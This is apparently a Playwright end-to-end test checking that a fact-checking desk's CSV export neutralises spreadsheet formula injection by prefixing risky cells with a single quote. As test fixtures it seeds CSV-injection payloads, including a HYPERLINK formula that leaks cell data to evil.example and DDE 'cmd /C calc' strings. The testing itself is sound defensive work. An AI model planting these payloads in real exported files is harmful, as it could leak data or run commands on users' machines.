import { expect, test } from "@playwright/test";
import { parseCsv } from "../../scripts/testing/rfc4180";
import { readBuiltActions } from "../../scripts/testing/actions-inventory";
import { createAccount, withDeskDatabase } from "../support/desk";
import { callAction, formStatusOf, signedInClient, uniqueTag } from "./support";

/**
 * CSV formula injection: a spreadsheet runs a cell that starts with `=`,
 * `+`, `-`, `@`, a tab or a carriage return (some also take the full-width
 * signs) as a formula. Claims whose every text field starts that way, on a
 * report whose title and outlet do, judged by an editor whose name and
 * rationale do, are exported through the API as an editor would; every such
 * cell must come out behind a single quote, and no cell may start with a
 * formula sign.
 */

const formulaLeads = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the source")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "＠SUM(1,1)",
];
const formulaSign = /^[=+\-@\t\r＝＋－＠]/;

test("every exported CSV cell that would start a formula starts with a single quote", async () => {
  const tag = uniqueTag();
  const editor = await createAccount("editor");
  const { reportId, claims } = await withDeskDatabase(async (db) => {
    await db.query("update users set display_name = $1 where id = $2", [
      `=cmd|' /C calc'!A0 ${tag}`,
      editor.id,
    ]);
    const report = await db.query<{ id: number }>(
      `insert into reports (title, outlet, author, language, full_text, imported_by)
       values ($1, $2, $3, 'en', $4, $5) returning id`,
      [
        `=HYPERLINK("http://evil.example","source ${tag}")`,
        "@outlet",
        "-author",
        formulaLeads.join("\n\n"),
        editor.id,
      ],
    );
    const reportId = report.rows[0]!.id;
    const claims: { id: number; statement: string; attribution: string; quote: string }[] = [];
    for (const [i, lead] of formulaLeads.entries()) {
      const claim = {
        statement: `${lead} claim ${i} ${tag}`,
        attribution: formulaLeads[(i + 1) % formulaLeads.length]!,
        quote: lead,
      };
      const { rows } = await db.query<{ id: number }>(
        `insert into claims (report_id, statement, quote, quote_language, anchor_exact, attribution, created_by)
         values ($1, $2, $3, 'en', $3, $4, $5) returning id`,
        [reportId, claim.statement, claim.quote, claim.attribution, editor.id],
      );
      await db.query(
        `insert into evidence (claim_id, url, title, stance, added_by)
         values ($1, 'https://example.org/source', $2, 'supports', $3)`,
        [rows[0]!.id, lead, editor.id],
      );
      claims.push({ id: rows[0]!.id, ...claim });
    }
    return { reportId, claims };
  });

  // the editor's verdict, with a rationale that is a formula, through the desk's own action
  const client = await signedInClient(editor);
  const setVerdict = readBuiltActions().find((a) => a.exportedName === "setVerdictAction")!;
  const rationale = `=HYPERLINK("http://evil.example","Read the sources ${tag}")`;
  const verdict = await callAction(
    client,
    setVerdict,
    { claimId: String(claims[0]!.id), verdict: "false", rationale },
    { ids: { claim: claims[0]!.id } },
  );
  expect(formStatusOf(verdict), verdict.body.slice(0, 300)).toBe("success");

  const response = await client.get(`/api/export?format=csv&status=all&report=${reportId}`);
  expect(response.status()).toBe(200);
  expect(response.headers()["content-type"]).toMatch(/^text\/csv/);
  const [header, ...rows] = parseCsv((await response.text()).replace(/^\uFEFF/, ""));
  expect(rows).toHaveLength(claims.length);
  const column = (name: string) => header!.indexOf(name);

  for (const row of rows) {
    for (const [i, cell] of row.entries()) {
      expect(cell, `${header![i]} of claim ${row[0]}`).not.toMatch(formulaSign);
    }
  }
  for (const claim of claims) {
    const row = rows.find((cells) => cells[column("claim_id")] === String(claim.id))!;
    expect(row[column("statement")]).toBe(`'${claim.statement}`);
    expect(row[column("attribution")]).toBe(`'${claim.attribution}`);
    expect(row[column("quote")]).toBe(`'${claim.quote}`);
    expect(row[column("report_title")]).toBe(`'=HYPERLINK("http://evil.example","source ${tag}")`);
    expect(row[column("report_outlet")]).toBe("'@outlet");
  }
  const judged = rows.find((cells) => cells[column("claim_id")] === String(claims[0]!.id))!;
  expect(judged[column("verdict_rationale")]).toBe(`'${rationale}`);
  expect(judged[column("verdict_decided_by")]).toBe(`'=cmd|' /C calc'!A0 ${tag}`);
  await client.dispose();
});
